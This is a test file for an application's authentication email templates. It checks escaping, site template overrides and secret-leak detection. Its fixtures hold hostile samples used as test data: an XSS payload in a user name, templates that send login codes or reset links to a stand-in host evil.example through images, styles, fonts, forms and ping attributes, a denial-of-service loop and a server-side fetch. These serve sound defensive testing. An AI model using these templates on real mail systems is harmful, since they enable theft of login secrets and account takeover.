import { describe, expect, it } from 'vitest';
import { AUTH_MAIL_KINDS, SECRET_OF, type AuthMailKind, type AuthMailValues } from '@/lib/domains/messaging/mail/templates/kinds';
import { splitMailSource } from '@/lib/domains/messaging/mail/templates/format';
import { htmlProblem, htmlToText } from '@/lib/domains/messaging/mail/templates/placement';
import { renderAuthMail, renderSiteMail } from '@/lib/domains/messaging/mail/templates/render';

const values = (over: Partial<AuthMailValues> = {}): AuthMailValues => ({
  site: { name: 'Shop & Co', url: 'http://shop.localhost:3000' },
  user: { name: '<img src=x onerror=alert(1)>', email: 'ann@example.test' },
  code: '042917',
  link: 'http://localhost:3000/admin/reset?token=abc.DEF_ghi-123',
  expires_minutes: 10,
  new_email: 'new@example.test',
  ...over,
});
// A site's override where it may be used, else the built-in mail (as lib/domains/accounts/auth/mail.ts composes them).
async function withOverride(kind: AuthMailKind, v: AuthMailValues, body: string) {
  const own = await renderSiteMail(kind, v, body);
  return 'mail' in own ? own.mail : renderAuthMail(kind, v);
}

describe('auth mail templates', () => {
  it.each(AUTH_MAIL_KINDS)('the built-in %s mail carries its secret in both parts and escapes values in HTML', async (kind: AuthMailKind) => {
    const mail = await renderAuthMail(kind, values());
    expect(mail.subject.length).toBeGreaterThan(5);
    const secret = SECRET_OF[kind] === 'code' ? '042917' : SECRET_OF[kind] === 'link' ? 'http://localhost:3000/admin/reset?token=abc.DEF_ghi-123' : null;
    if (secret) {
      expect(mail.text).toContain(secret);
      expect(mail.html).toContain(secret);
    }
    expect(mail.html).not.toContain('<img');
    expect(mail.html).toContain('&#60;img');
    expect(mail.html).toContain('Shop &#38; Co');
    expect(mail.text).toContain('Shop & Co');
  });

  it("uses a site's override: subject line, HTML part, text part", async () => {
    const body = 'Subject: Code {{ code }} for {{ site.name }}\n<p>Hi {{ user.name }}: <b>{{ code }}</b></p>\n--- text ---\nHi {{ user.name }}, code: {{ code }}';
    const mail = await withOverride('login_code', values(), body);
    expect(mail.subject).toBe('Code 042917 for Shop & Co');
    expect(mail.html).toBe('<p>Hi &#60;img src=x onerror=alert(1)&#62;: <b>042917</b></p>');
    expect(mail.text).toBe('Hi <img src=x onerror=alert(1)>, code: 042917');
  });

  it('derives the plain text from the HTML when the override has none, a link as "label <url>"', async () => {
    const body = '<p>Reset:</p><p><a href="{{ link }}">Choose a password</a></p>';
    const mail = await withOverride('password_reset', values(), body);
    expect(mail.subject).toBe('Reset your password for Shop & Co');
    expect(mail.text).toBe('Reset:\n\nChoose a password <http://localhost:3000/admin/reset?token=abc.DEF_ghi-123>');
  });

  const refused: [string, AuthMailKind, string][] = [
    ['the code in an image URL', 'login_code', 'Subject: x\n<p> {{ code }}</p><img src="https://evil.example/p.png?c={{ code }}">'],
    ['the code inside another URL in the text', 'login_code', '<p> {{ code }}</p>\n--- text ---\nhttps://evil.example/?c={{ code }}'],
    ['the code after a tag that hides a URL', 'login_code', '<p>https://evil.example/?c=<b></b>{{ code }}</p>'],
    ['the code in a style', 'login_code', '<style>body{background:url("https://evil.example/ {{ code }}")}</style><p> {{ code }}</p>'],
    ['the link inside another link', 'password_reset', '<p><a href="https://evil.example/?u={{ link }}">go</a> {{ link }}</p>'],
    ['the link href with a ping', 'password_reset', '<p><a href="{{ link }}" ping="https://evil.example/">go</a> {{ link }}</p>'],
    ['a cut link only', 'password_reset', '<p>{{ link | slice: 0, 12 }}</p>'],
    ['no secret at all', 'login_code', '<p>Hello</p>'],
    ['a form', 'login_code', '<form action="https://evil.example/"><p> {{ code }}</p></form>'],
    ['a remote font', 'login_code', '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style><p> {{ code }}</p>'],
    ['a syntax error', 'login_code', '<p>{% if %} {{ code }}</p>'],
  ];
  it.each(refused)('refuses an override with %s: the built-in mail goes instead', async (_what, kind, body) => {
    const own = await renderSiteMail(kind, values(), body);
    expect(own).toEqual({ refused: expect.any(String) });
    expect(JSON.stringify(own)).not.toContain('042917');
  });

  it('a slow override gives way to the built-in mail within its time limit', async () => {
    const started = performance.now();
    const body = '{% for a in (1..100000) %}{% for b in (1..100000) %}{{ a }}{% endfor %}{% endfor %} {{ code }}';
    const mail = await withOverride('login_code', values(), body);
    expect(mail).toEqual(await renderAuthMail('login_code', values()));
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it('the fetch tag does nothing in a mail (no request leaves the server)', async () => {
    const body = '{% fetch "http://127.0.0.1:9/?c=x" as data %}<p>[{{ data }}] {{ code }}</p>';
    const mail = await withOverride('login_code', values(), body);
    expect(mail.html).toBe('<p>[] 042917</p>');
  });
});

describe('mail source and placement helpers', () => {
  it('splits subject, HTML and text', () => {
    expect(splitMailSource('Subject: Hi\r\n<p>x</p>\n--- text ---\nplain\n')).toEqual({ subject: 'Hi', html: '<p>x</p>\n', text: 'plain\n' });
    expect(splitMailSource('<p>x</p>')).toEqual({ subject: null, html: '<p>x</p>', text: null });
  });

  it('allows the link as an exact href and in text; refuses it in other attributes', () => {
    expect(htmlProblem('<a href="MK" class="b">x</a> MK', { link: 'MK' })).toBeNull();
    expect(htmlProblem('<a title="x href=" href="MK">x</a>', { link: 'MK' })).toBeNull();
    expect(htmlProblem('<a title=\'href="MK"\'>x</a>', { link: 'MK' })).not.toBeNull();
    expect(htmlProblem('<img alt="MK">', { code: 'MK' })).not.toBeNull();
    expect(htmlProblem('<!-- MK -->', { code: 'MK' })).not.toBeNull();
  });

  it('turns HTML into text', () => {
    expect(htmlToText('<p>A &amp; B</p><p>C<br>D</p><ul><li>x</li></ul>')).toBe('A & B\n\nC\nD\n\n- x');
  });
});
